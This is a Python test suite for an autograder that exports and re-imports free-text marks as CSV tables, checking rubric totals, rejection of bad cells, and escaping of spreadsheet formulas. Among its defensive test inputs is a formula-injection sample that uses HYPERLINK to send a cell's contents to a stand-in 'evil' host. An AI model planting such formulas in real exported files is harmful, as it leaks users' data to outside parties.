"""Marks for free text by a table: what was exported and not changed changes nothing, what cannot be
is refused whole, and the points of a rubric add up to the mark."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from databases import a_course, a_result
from example_results import HOSTILE
from hypothesis import given
from hypothesis import strategies as st

from autograder.course import Assignment, Course, Question, load
from autograder.course.assignment import RubricItem
from autograder.course.pseudonyms import pseudonym
from autograder.exchange import ExchangeError, marks
from autograder.exchange.marks import Answer
from autograder.exchange.marks_read import Marked, read
from autograder.gradebook import TextMark
from autograder.report.cells import safe_cell
from autograder.result import QuestionResult, Status
from autograder.store import Store
from autograder.store.events import Event
from autograder.submission.answers import fingerprint

RUBRIC = [RubricItem(text="Names the idea", points=Decimal(1)),
          RubricItem(text='Gives a reason, in "words"', points=Decimal("1.5"))]
IDEA, REASON = (item.text for item in RUBRIC)


def a_lab(rubric: Sequence[RubricItem] = ()) -> Course:
    course = Course(name="Convolution", assignments={"lab": Assignment(title="Lab", questions=[
        Question(name="twice", title="Twice", points=Decimal(2)),
        Question(name="essay", title="Why?", kind="text", rubric=list(rubric),
                 points=sum((item.points for item in rubric), Decimal(0)) or Decimal(3))])})
    course.assignment("lab")._name = "lab"
    return course


def a_mark(points: str, comment: str = "", **more: Any) -> TextMark:
    return TextMark(assignment="lab", reason="", student="ann", question="essay",
                    points=Decimal(points), comment=comment, **more)


def exported(course: Course, *answers: Answer) -> str:
    assignment = course.assignment("lab")
    return marks.table(assignment, assignment.question("essay"),
                       [(each.student, each) for each in answers])


def taken(course: Course, text: str, *answers: Answer, imported: str = "",
          overwrite: bool = False) -> Marked:
    return read(text, course, lambda *asked: {safe_cell(each.student): each for each in answers},
                lambda *asked: {"ann": imported}, overwrite=overwrite)


def filled(text: str, **cells: str) -> str:
    """The table with these cells in each row."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    file = io.StringIO(newline="")
    writer = csv.DictWriter(file, list({**rows[0], **cells}))
    writer.writeheader()
    writer.writerows({**row, **cells} for row in rows)
    return file.getvalue()


ANN = Answer("ann", "=Because", None)

# What changes nothing -------------------------------------------------------------------------

TEXTS = st.text(alphabet=st.characters(codec="utf-8"), max_size=40) | st.sampled_from(
    [HOSTILE, "=1+1", "-1 for the second", "a;b\nc,\"d\"", "'+'", " x "])
POINTS = st.decimals(0, 1, places=2)


@given(st.dictionaries(st.sampled_from(["ann", "=bob", "Zoë", "d-e"]), st.tuples(
    st.none() | TEXTS, st.none() | st.tuples(POINTS, TEXTS, st.booleans()))))
def test_what_was_exported_and_not_changed_changes_nothing(
    people: dict[str, tuple[str | None, tuple[Decimal, str, bool] | None]]
) -> None:
    course = a_lab(RUBRIC)
    answers = []
    for student, (text, said) in people.items():
        items = {IDEA: said[0], REASON: said[0]} if said and said[2] else {}
        points = sum(items.values()) if items else said and said[0]
        answers.append(Answer(student, text, said and a_mark(
            str(points or 0), said[1], items=items)))
    if answers:
        found = taken(course, exported(course, *answers), *answers)
        assert (found.new, found.changed, found.left) == ([], [], len(answers))


@pytest.mark.parametrize("items", [{"Another line": Decimal(1)}, {IDEA: Decimal(1)}])
def test_a_mark_by_an_earlier_rubric_stays_as_it_is(items: dict[str, Decimal]) -> None:
    course, answer = a_lab(RUBRIC), Answer("ann", "So.", a_mark("1", items=items))
    assert taken(course, exported(course, answer), answer).left == 1


def test_no_spreadsheet_takes_a_digest_for_a_number() -> None:
    assert not {fingerprint(str(text))[0] for text in range(50)} & set("0123456789+-.eEinfN")


@pytest.mark.parametrize("text", [
    "harmless", 'x\n=HYPERLINK("http://evil/?"&A1,"click")', "x\t=1+1", "x\n\n  @SUM(1)", "a;-1",
    "x\r=1+1", "x\n=1\n=2", "=1\t\t=2"])
def test_no_part_of_a_text_is_a_formula_by_whatever_separator(text: str) -> None:
    table = exported(a_lab(), Answer("ann", text, a_mark("1", text)))
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(table, newline=""), delimiter=separator):
            assert not [cell for cell in row if cell.lstrip().startswith(tuple("=+-@"))]
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        if separator == "\t" and "\t=" in text:  # control: without our doing
            assert [cell for row in rows for cell in row if cell.startswith("=")]


@pytest.mark.parametrize("is_old", [False, True])
def test_a_mark_that_the_table_does_not_know_of_stays_and_is_named(is_old: bool) -> None:
    course, since = a_lab(), Answer("ann", "=Because", a_mark("3", number=7, by="carol"))
    table = filled(exported(course, ANN), points="1")
    if is_old:  # as it was before tables said which mark stood
        table = "\n".join(line.rpartition(",")[0] for line in table.splitlines())
    with pytest.raises(ExchangeError, match=r"row 2: 'ann' has 3 points from 'carol' that the "
                                            r"table does not know of; .* --overwrite"):
        taken(course, table, since)
    for known in ({"imported": "7"}, {"overwrite": True}):
        assert len(taken(course, table, since, **known).changed) == 1  # type: ignore[arg-type]
    known_to_it = filled(exported(course, since), points="1")
    assert len(taken(course, known_to_it, since).changed) == 1


# What changes something -----------------------------------------------------------------------

@given(st.decimals(0, 1, places=2), st.decimals(0, "1.5", places=2))
def test_the_points_of_a_rubric_add_up_to_the_mark(idea: Decimal, reason: Decimal) -> None:
    course = a_lab(RUBRIC)
    first, second = (marks.heading(item) for item in RUBRIC)
    text = filled(exported(course, ANN), **{first: str(idea), second: str(reason)})
    [mark] = taken(course, text, ANN).new
    assert mark.points == idea + reason == sum(mark.items.values())
    assert mark.items == {IDEA: idea, REASON: reason}


def test_points_and_a_comment_are_a_mark() -> None:
    course = a_lab()
    [mark] = taken(course, filled(exported(course, ANN), points="2,5", comment="Why, though?"),
                   ANN).new
    assert (mark.points, mark.comment, mark.items) == (Decimal("2.5"), "Why, though?", {})


@pytest.mark.parametrize(("cells", "points", "comment"), [
    ({"points": "2"}, "2", "Good."), ({"comment": "Better."}, "1", "Better."),
    ({"comment": ""}, "1", ""),
])
def test_a_mark_is_changed(cells: dict[str, str], points: str, comment: str) -> None:
    course, answer = a_lab(), Answer("ann", "So.", a_mark("1", "Good."))
    [mark] = taken(course, filled(exported(course, answer), **cells), answer).changed
    assert (mark.points, mark.comment) == (Decimal(points), comment)


def test_a_cell_that_was_emptied_takes_no_mark_away() -> None:
    course, answer = a_lab(), Answer("ann", "So.", a_mark("1", "Good."))
    assert taken(course, filled(exported(course, answer), points=""), answer).left == 1


def test_a_table_that_excel_wrote_in_german_is_read() -> None:
    course = a_lab()
    text = "\ufeff" + filled(exported(course, ANN), points="2").replace(",", ";")
    assert [mark.points for mark in taken(course, text, ANN).new] == [2]


# What is refused ------------------------------------------------------------------------------

@pytest.mark.parametrize(("cells", "words"), [
    ({"points": "two"}, "'two' is no number from 0 to 3"),
    ({"points": "3.01"}, "'3.01' is no number from 0 to 3"),
    ({"points": "-1"}, "'-1' is no number from 0 to 3"),
    ({"points": "\uff12"}, "is no number from 0 to 3"),
    ({"points": "1_0"}, "'1_0' is no number from 0 to 3"),
    ({"points": "NaN"}, "'NaN' is no number"),
    ({"points": "1.005"}, "with two decimals at most"),
    ({"student": "zoe", "points": "1"}, "nobody called 'zoe' has a text to be marked"),
    ({"points": "1", "digest": "t" * 16}, "the text of 'ann' has changed since"),
    ({"comment": "Hm."}, "a comment and no points"),
    ({"question": "twice"}, "no question 'twice' in free text; there are: essay"),
    ({"assignment": "lob"}, "'lob' is no assignment"),
    ({"colour (of 1)": "1"}, "'colour (of 1)' is none of the rubric"),
])
def test_what_cannot_be_is_refused(cells: dict[str, str], words: str) -> None:
    course = a_lab()
    with pytest.raises(ExchangeError) as refused:
        taken(course, filled(exported(course, ANN), **cells), ANN)
    assert words in str(refused.value)


@pytest.mark.parametrize("comment", ["So.\nAnd\tso.", "a\0b", "a\x1bb", "a\x85b"])
def test_a_comment_with_a_control_character_is_refused_for_not_every_database_keeps_it(
    comment: str
) -> None:
    course, bob = a_lab(), Answer("bob", "=Because", None)
    text = filled(exported(course, ANN, bob), points="1", comment="Good.")
    text = text.replace("Good.", f'"{comment}"' if "\n" in comment else comment, 1)
    if comment.startswith("So."):  # control
        assert {mark.comment for mark in taken(course, text, ANN, bob).new} == {comment, "Good."}
        return
    with pytest.raises(ExchangeError, match=r"row 2: .*control character \(U\+00"):
        taken(course, text, ANN, bob)


def test_every_row_that_cannot_be_is_named_by_its_number() -> None:
    """As spreadsheets count, whatever lines a text has."""
    course = a_lab()
    answers = [Answer(name, "One\n\nTwo", None) for name in ("ann", "bob", "cem")]
    rows = filled(exported(course, *answers), points="9").replace("9,3", "1,3", 1)
    with pytest.raises(ExchangeError) as refused:
        taken(course, rows, *answers)
    named = [line.partition(":")[0] for line in str(refused.value).splitlines()]
    assert named == ["row 3", "row 4"]


def test_a_student_has_one_row() -> None:
    course = a_lab()
    text = exported(course, ANN)
    with pytest.raises(ExchangeError, match="row 3: is of a student who has a row already"):
        taken(course, text + text.partition("\r\n")[2], ANN)


@pytest.mark.parametrize(("cells", "words"), [
    ({IDEA: "1"}, "1 of 2 lines of the rubric have points"),
    ({IDEA: "1.5", REASON: "1"}, "'1.5' is no number from 0 to 1"),
    ({IDEA: "1", REASON: "1", "points": "2.5"}, "its points are 2.5, and 2 by its rubric"),
])
def test_a_rubric_is_filled_in_whole_and_agrees_with_the_points(
    cells: dict[str, str], words: str
) -> None:
    course = a_lab(RUBRIC)
    titles = {item.text: marks.heading(item) for item in RUBRIC}
    text = filled(exported(course, ANN), **{titles.get(k, k): v for k, v in cells.items()})
    with pytest.raises(ExchangeError, match=words):
        taken(course, text, ANN)


@pytest.mark.parametrize("text", ["", "student,points\nann,3\n", "PK\x03\x04", '"'])
def test_what_is_no_such_table_is_said_so(text: str) -> None:
    with pytest.raises(ExchangeError, match=r"has no column|quotation mark"):
        taken(a_lab(), text, ANN)


# In a store -----------------------------------------------------------------------------------

@pytest.fixture
def lab(tmp_path: Path) -> Course:
    course = a_course(tmp_path)
    file = course.root / "grader.toml"
    text = file.read_text()
    file.write_text(text.replace("points = 4 }]", "points = 4 },\n"
                                 '{ name = "essay", title = "Why?", points = 3, kind = "text" }]'))
    return load(file)


def test_what_was_marked_stands_in_the_store_and_says_when_the_text_is_another_since(
    lab: Course
) -> None:
    assignment = lab.assignment("correlation")
    question = assignment.question("essay")

    def handed_in(text: str | None, digest: str) -> None:
        verdicts = a_result().questions
        result = a_result(questions=[*verdicts, QuestionResult(
            name="essay", status=Status.DEFERRED, text=text)])
        store.add(store.begin("correlation", "t"), result.model_copy(update={
            "submission": result.submission.model_copy(update={"digest": digest})}))

    with Store(lab) as store:
        handed_in("Because.", "1" * 64)
        [answer], _ = marks.answers(store, assignment, question)
        assert answer.text == "Because." and marks.open_texts([answer]) == ["ann"]
        store.acts.add(TextMark(
            assignment="correlation", reason="", student="ann", question="essay",
            points=Decimal("2.5"), comment="So?", items={"Names the idea": Decimal(1)},
            answer=answer.digest))
        [answer], _ = marks.answers(store, assignment, question)
        assert answer.mark is not None and answer.mark.items == {"Names the idea": 1}
        assert not answer.is_outdated
        [grade] = store.grades("correlation")
        assert (grade.score, grade.open) == (5.5, [])
        handed_in("On second thought.", "2" * 64)
        [answer], _ = marks.answers(store, assignment, question)
        assert answer.is_outdated
        [grade] = store.grades("correlation")
        assert grade.score == 5.5  # the mark stands
        events: list[Event] = store.events.all(verb="mark")
        assert [(each.object, each.after) for each in events] == [
            ("correlation · ann · essay", "2.5")]


def test_who_was_graded_before_the_question_was_asked_is_named(lab: Course) -> None:
    assignment = lab.assignment("correlation")
    with Store(lab) as store:
        store.add(store.begin("correlation", "t"), a_result())
        found, [note] = marks.answers(store, assignment, assignment.question("essay"))
    assert found == [] and note.startswith("ann: was graded before essay was asked")


def test_pseudonyms_are_a_persons_own_and_the_courses() -> None:
    assert pseudonym(b"secret", "ann") == pseudonym(b"secret", "ann")
    assert len({pseudonym(key, name) for key in (b"one", b"two") for name in ("ann", "bob")}) == 4
